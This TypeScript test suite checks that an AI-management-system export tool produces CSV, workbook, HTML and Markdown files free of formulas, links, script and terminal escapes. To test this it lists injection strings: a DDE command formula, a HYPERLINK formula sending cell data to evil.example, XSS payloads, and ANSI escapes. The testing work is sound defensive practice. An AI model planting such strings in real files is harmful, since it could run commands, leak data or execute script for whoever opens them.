// What is given away: as the repository says it, ours marked as ours, and harmless wherever it is opened.
import { deepEqual, equal, match, ok } from 'node:assert/strict';
import { existsSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import MarkdownIt from 'markdown-it';
import readExcelFile from 'read-excel-file/node';
import { writeWorkbook } from '../cli/spreadsheet/write-workbook';
import { guarded, unguarded } from '../engine/features/import/guarded-text';
import { findRows, rowNames } from '../engine/features/import/kind-names';
import { csvText } from '../engine/reports/tables/csv-text';
import { htmlText } from '../engine/reports/tables/html-text';
import { markdownText } from '../engine/reports/tables/markdown-text';
import { registerTable } from '../engine/reports/tables/register-table';
import { DAY, runCommand } from './support/command-line';
import { textsBelow } from './support/folders';
import { TestRepository } from './support/git-repository';
import { workspaceOf } from './support/memory-workspace';
import { keptFolders, TestFolder } from './support/test-folder';

const EXAMPLE = 'examples/meridian';

/** Texts that a spreadsheet, a browser, Markdown or a terminal could take for more than words. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  ' =1+1',
  "'=1+1",
  "''+1",
  '\u003d\u202e1',
  '＝1+1',
  'a;=1+1',
  'a\n=1+1',
  'a"; =1+1',
  'a,"=1+1"',
  'a;"=1+1"',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/a.png)',
  '<javascript:alert(1)>',
  'a | b\n| c',
  '`code` **bold** # no heading',
  'ends with \\',
  '_x0041_ &amp; &lt;',
];

/** RFC 4180, read by the letter: this reader is no part of the product. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  for (const record of text.replace(/\r\n$/, '').split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
    const cells: string[] = [];
    const cell = /"((?:[^"]|"")*)"(,|$)/gy;
    for (let next = cell.exec(record); next; next = cell.exec(record)) {
      cells.push((next[1] ?? '').replace(/""/g, '"'));
      if (next[2] === '') break;
    }
    rows.push(cells);
  }
  return rows;
}

describe('aims export', () => {
  const kept = keptFolders();
  const folderOf = (files: Iterable<readonly [string, string | Uint8Array]> = []) => kept(new TestFolder(files));
  const meridian = workspaceOf(textsBelow(EXAMPLE)).snapshot;
  const named = (name: string) => {
    const found = findRows(name);
    ok(found, name);
    return found;
  };
  const risks = named('risks');
  const hostile = workspaceOf(
    new Map([
      [
        'risks.yaml',
        `kind: risk-register\nrisks:\n${HOSTILE.map((text, at) => `  - { id: R-${at}, title: ${JSON.stringify(text)}, owner: ${JSON.stringify(text)} }\n`).join('')}`,
      ],
    ]),
  ).snapshot;
  const hostileTable = registerTable(hostile, risks);
  const titles = hostile.view.rows('risk').map((row) => row.fields.get('title')?.text.trim());

  it('the statement: what the documents say, and ours beside it and marked', () => {
    const { columns, rows, notes } = registerTable(meridian, named('soa'));
    equal(rows.length, meridian.view.rows('control-decision').length);
    const at = (head: string) => columns.findIndex((column) => column.head.startsWith(head));
    const first = rows.find((row) => row[0]?.text === 'A.2.2');
    equal(first?.[at('applicable')]?.text, 'true');
    match(first?.[at('justification')]?.text ?? '', /two hospitals ask for a written policy/);
    match(first?.[at('evidence')]?.text ?? '', /records\/2026-01-29-board-minutes\.md \(2026-01-29\)/);
    match(first?.[at('AIMS reason')]?.text ?? '', /evidence of 2026-01-29/);
    deepEqual(
      columns.filter(({ ours }) => ours).map(({ head }) => head),
      columns.filter(({ head }) => head.startsWith('AIMS ')).map(({ head }) => head),
    );
    match(columns[at('AIMS grade')]?.head ?? '', /no statement of conformity/);
    match(notes.at(-1) ?? '', /not a statement of conformity/);
    match(notes[0] ?? '', /As of 2026-11-20.*soa\.yaml \(version 1\.3, approved\)/);
  });

  it('what is missing or cannot be read is said with it', () => {
    const { snapshot } = workspaceOf(
      new Map([
        ['soa.yaml', 'kind: statement-of-applicability\nframework: iso-42001\ncontrols:\n  - id: A.2.2\n  - {{{\n'],
      ]),
    );
    const words = registerTable(snapshot, named('soa')).notes.join('\n');
    match(words, /No row for A\.2\.3, /);
    match(words, /soa\.yaml could not be read in full/);
    const folder = folderOf([
      ['soa.yaml', 'kind: statement-of-applicability\nframework: iso-42001\ncontrols:\n  - id: A.2.2\n  - {{{\n'],
    ]);
    const { status, stderr } = runCommand(['export', 'soa', folder.path, '--format', 'md', ...DAY]);
    equal(status, 2);
    match(stderr, /could not be read in full/);
  });

  it('the state of a revision is what was committed, whatever stands on disk', () => {
    const repository = kept(
      new TestRepository([
        ['aims.yaml', 'organization: Example\n'],
        ['risks.yaml', 'kind: risk-register\nrisks:\n  - { id: R-001, title: Committed }\n'],
      ]),
    );
    repository.commit();
    repository.write('risks.yaml', 'kind: risk-register\nrisks:\n  - { id: R-001, title: On disk }\n');
    const titleAt = (...at: readonly string[]) =>
      /"R-001","([^"]*)"/.exec(runCommand(['export', 'register', 'risks', repository.path, ...at, ...DAY]).stdout)?.[1];
    deepEqual([titleAt(), titleAt('--at', 'HEAD')], ['On disk', 'Committed']);
  });

  it('every name of a register is understood, one or many', () => {
    for (const name of rowNames()) ok(findRows(name)?.definition, name);
    for (const [name, kind] of [
      ['risk-register', 'risk-register'],
      ['Risk', 'risk-register'],
      ['suppliers', 'supplier-register'],
      ['AI systems', 'ai-system-inventory'],
      ['incidents', 'ai-incident-log'],
      ['nonconformities', 'nonconformity-register'],
      ['nonconformity', 'nonconformity-register'],
      ['assessments', 'ai-impact-assessment'],
      ['SoA', 'statement-of-applicability'],
    ] as const)
      equal(findRows(name)?.kind.kind, kind, name);
    equal(findRows('dragons'), undefined);
    equal(findRows(''), undefined);
  });

  describe('CSV', () => {
    it('is RFC 4180 with a byte order mark, and comes back word for word', () => {
      const text = csvText(hostileTable);
      equal(text.charCodeAt(0), 0xfeff);
      const [head = [], ...rows] = readCsv(text.slice(1));
      ok(rows.every((row) => row.length === head.length));
      deepEqual(
        rows.map((row) => unguarded(row[head.indexOf('title')] ?? '').trim()),
        titles,
      );
    });

    it('no cell is a formula, whatever separates the cells', () => {
      const text = csvText(hostileTable).slice(1);
      // Where somebody opens it with other settings, quotes are no help, and each part becomes a cell.
      const parts = [';', '\t', '\n'].flatMap((separator) => text.split(separator));
      for (const cell of [...readCsv(text).flat(), ...parts.map((part) => part.replace(/^[\s"]+/, ''))])
        ok(!/^\s*(?:[=+@＝]|-(?!\s))/.test(cell), JSON.stringify(cell.slice(0, 60)));
    });

    it('the guard is exact for any text', () => {
      const letters = ["'", '=', '+', '-', '@', ';', '\n', '\t', ' ', 'a', '＝'];
      // Every text of up to four of these letters.
      const grow = (texts: readonly string[]) => texts.flatMap((text) => letters.map((letter) => text + letter));
      const one = grow(['']);
      const two = grow(one);
      const three = grow(two);
      for (const text of [...one, ...two, ...three, ...grow(three)]) {
        const safe = guarded(text);
        if (unguarded(safe) !== text) equal(unguarded(safe), text, JSON.stringify(text));
        if (/^\s*[=+\-@＝]/.test(safe)) equal(safe, 'no formula', JSON.stringify(text));
      }
    });
  });

  describe('a workbook, by another program', () => {
    it('has text as text and days as days', async () => {
      const folder = folderOf();
      const file = join(folder.path, 'risks.xlsx');
      const { status, stdout, stderr } = runCommand(['export', 'register', 'risks', EXAMPLE, '-o', file, ...DAY]);
      deepEqual([status, stdout], [0, ''], stderr);
      const [sheet, about] = await readExcelFile(file);
      equal(sheet?.sheet, 'AI risk register');
      const [head = [], ...rows] = sheet?.data ?? [];
      const table = registerTable(meridian, risks);
      deepEqual(
        head,
        table.columns.map((column) => column.head),
      );
      equal(rows.length, table.rows.length);
      const read = rows.map((row) =>
        table.columns.map((_, column) => {
          const value = row[column] ?? '';
          return value instanceof Date
            ? { text: value.toISOString().slice(0, 10), date: true }
            : { text: String(value), date: false };
        }),
      );
      deepEqual(read, table.rows);
      ok(read.some((row) => row.some((cell) => cell.date)));
      match(String(about?.data.at(-1)?.[0]), /not a statement of conformity/);
    });

    it('holds no formula, no link, no macro, and is set up for reading and printing', async () => {
      const bytes = await writeWorkbook(hostileTable);
      deepEqual(await writeWorkbook(hostileTable), bytes);
      const parts = Object.entries(unzipSync(bytes)).map(
        ([path, part]) => [path, new TextDecoder().decode(part)] as const,
      );
      const sheet = parts.find(([path]) => /worksheets\/sheet1\.xml$/.test(path))?.[1] ?? '';
      for (const [path, text] of parts)
        ok(!/<f[ >]|<hyperlink|vbaProject|externalLink|TargetMode="External"/.test(text), path);
      for (const wanted of [
        '<pane ',
        'state="frozen"',
        '<autoFilter ',
        'orientation="landscape"',
        'fitToHeight="0"',
        '<cols>',
      ])
        ok(sheet.includes(wanted), wanted);
      // Without the quotes Excel finds the file damaged.
      const book = parts.find(([path]) => path === 'xl/workbook.xml')?.[1] ?? '';
      match(
        book,
        /<definedName name="_xlnm\.Print_Titles" localSheetId="0">('|&apos;)AI risk register\1!\$A:\$A,\1AI risk register\1!\$1:\$1<\/definedName>/,
      );
      const [first] = await readExcelFile(Buffer.from(bytes));
      const column = hostileTable.columns.findIndex(({ head }) => head === 'title');
      deepEqual(
        first?.data.slice(1).map((row) => String(row[column]).trim()),
        titles,
      );
    });

    it('a cell that is too long is said and not cut', async () => {
      const long = {
        ...hostileTable,
        rows: [hostileTable.rows[0]?.map(() => ({ text: 'x'.repeat(32_768), date: false })) ?? []],
      };
      let said = '';
      await writeWorkbook(long).catch((error: unknown) => {
        said = String(error);
      });
      match(said, /32768\. Use csv/);
    });
  });

  it('HTML: every text is text', () => {
    const page = htmlText(hostileTable);
    const tags = new Set([...page.matchAll(/<\/?([a-z!][a-z0-9]*)[^>]*>/gi)].map(([, tag]) => tag?.toLowerCase()));
    const known = '!doctype html head meta title style body h1 table thead tr th tbody td p'.split(' ');
    deepEqual(
      [...tags].filter((tag) => !known.includes(tag ?? '')),
      [],
    );
    deepEqual(
      [...page.matchAll(/<[a-z]+ [^>]*?\b(href|src|on[a-z]+|action)\s*=/gi)].map(([tag]) => tag),
      [],
    );
    match(page, /default-src 'none'/);
    const cells = [...page.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map(([, text = '']) =>
      text
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&#39;/g, "'")
        .replace(/&amp;/g, '&')
        .trim(),
    );
    for (const title of titles) ok(cells.includes(title ?? ''), title);
    match(page, /not a statement of conformity/);
  });

  it('Markdown: shown by another program, every text is text in its own cell', () => {
    const page = new MarkdownIt({ html: true, linkify: false }).render(markdownText(hostileTable));
    const inside = page.replace(/<br>/g, '\n');
    deepEqual(
      [...inside.matchAll(/<(?!\/?(?:h1|table|thead|tbody|tr|th|td|p)>)[^>]*>/g)].map(([tag]) => tag),
      [],
    );
    equal(inside.match(/<tr>/g)?.length, hostileTable.rows.length + 1);
    const cells = [...inside.matchAll(/<td>([\s\S]*?)<\/td>/g)].map(([, text = '']) =>
      text
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&')
        .trim(),
    );
    for (const title of titles) ok(cells.includes(title ?? ''), JSON.stringify(title));
  });

  it('nothing steers a terminal', () => {
    const { snapshot } = workspaceOf(
      new Map([
        [
          'risks.yaml',
          'kind: risk-register\nversion: "1\\e[2J"\nrisks:\n  - { id: R-1, title: "a\\e[31mred\\x07\\u009b2J", owner: "\\0" }\n',
        ],
      ]),
    );
    const table = registerTable(snapshot, risks);
    for (const text of [csvText(table), htmlText(table), markdownText(table), table.notes.join('\n')])
      ok(!/(?![\t\r\n])\p{Cc}/u.test(text));
    ok(csvText(table).includes('a\ufffd[31mred'));
  });

  describe('the command', () => {
    it('writes text to standard output, and notes of CSV to standard error', () => {
      const { status, stdout, stderr } = runCommand(['export', 'soa', EXAMPLE, ...DAY]);
      equal(status, 0);
      equal(stdout, csvText(registerTable(meridian, named('soa'))));
      match(stderr, /As of 2026-11-20/);
    });

    it('takes the form from the ending, replaces nothing without --force, and follows no link', () => {
      const folder = folderOf([
        ['there.md', 'mine'],
        ['aims/aims.yaml', 'organization: Example\nframeworks: [iso-42001]\n'],
        ['aims/soa.yaml', 'kind: statement-of-applicability\nframework: iso-42001\ncontrols:\n  - id: A.2.2\n'],
      ]);
      const into = (name: string, ...more: string[]) =>
        runCommand(['export', 'soa', 'aims', '--output', name, ...more, ...DAY], { cwd: folder.path });
      equal(into('new/soa.md').status, 0);
      match(readFileSync(join(folder.path, 'new/soa.md'), 'utf8'), /^# Statement of Applicability – Example\n/);
      const refused = into('there.md');
      equal(refused.status, 2);
      equal(refused.stderr, 'aims: "there.md" exists. Name another file, or add --force to replace it.\n');
      equal(readFileSync(join(folder.path, 'there.md'), 'utf8'), 'mine');
      equal(into('there.md', '--force').status, 0);
      match(readFileSync(join(folder.path, 'there.md'), 'utf8'), /^# Statement/);
      symlinkSync(join(folder.path, 'target.md'), join(folder.path, 'link.md'));
      equal(into('link.md', '--force').status, 2);
      ok(!existsSync(join(folder.path, 'target.md')));
    });

    it('says in one line what is wrong, and where there is nothing', () => {
      const two = folderOf([
        ['a/aims.yaml', 'frameworks: [iso-42001]\n'],
        ['b/aims.yaml', 'frameworks: [iso-42001]\n'],
      ]);
      for (const [args, words] of [
        [[], /Say what to export/],
        [['dragons'], /"dragons" cannot be exported/],
        [['register'], /Say which register: /],
        [['register', 'dragons'], /There is no register "dragons"/],
        [['soa', EXAMPLE, '--format', 'xlsx'], /A workbook needs a file/],
        [['soa', EXAMPLE, '--format', 'json'], /aims list --format json/],
        [['soa', EXAMPLE, '--model', 'catalog'], /--model belongs to/],
        [['soa', 'no/such/folder'], /There is no folder/],
        [['soa', two.path], /There are 2 management systems below .*: a, b\. Name one of them/],
      ] as const) {
        const { status, stdout, stderr } = runCommand(['export', ...args, ...DAY]);
        deepEqual([status, stdout], [2, ''], args.join(' '));
        match(stderr, /^aims: .+\n(?:See "aims --help"\.\n)?$/, args.join(' '));
        match(stderr, words);
      }
      const empty = runCommand(['export', 'soa', folderOf().path, ...DAY]);
      deepEqual([empty.status, empty.stdout], [0, '']);
      match(empty.stderr, /^There is no AI management system in .*\n$/);
      const none = runCommand(['export', 'register', 'risks', join(two.path, 'a'), '--format', 'md', ...DAY]);
      deepEqual([none.status, none.stdout], [0, '']);
      match(none.stderr, /^There is nothing to export: .*\n$/);
    });

    it('warns of a copy that would be read as one more register', () => {
      const folder = folderOf([
        ['aims.yaml', 'frameworks: [iso-42001]\n'],
        ['risks.yaml', 'kind: risk-register\nrisks:\n  - { id: R-1, title: Wrong }\n'],
      ]);
      const inside = (name: string) =>
        runCommand(['export', 'register', 'risks', folder.path, '-o', join(folder.path, name), ...DAY]);
      match(inside('copy.csv').stderr, /lies inside the management system/);
      ok(!/lies inside/.test(inside('copy.xlsx').stderr));
    });
  });
});
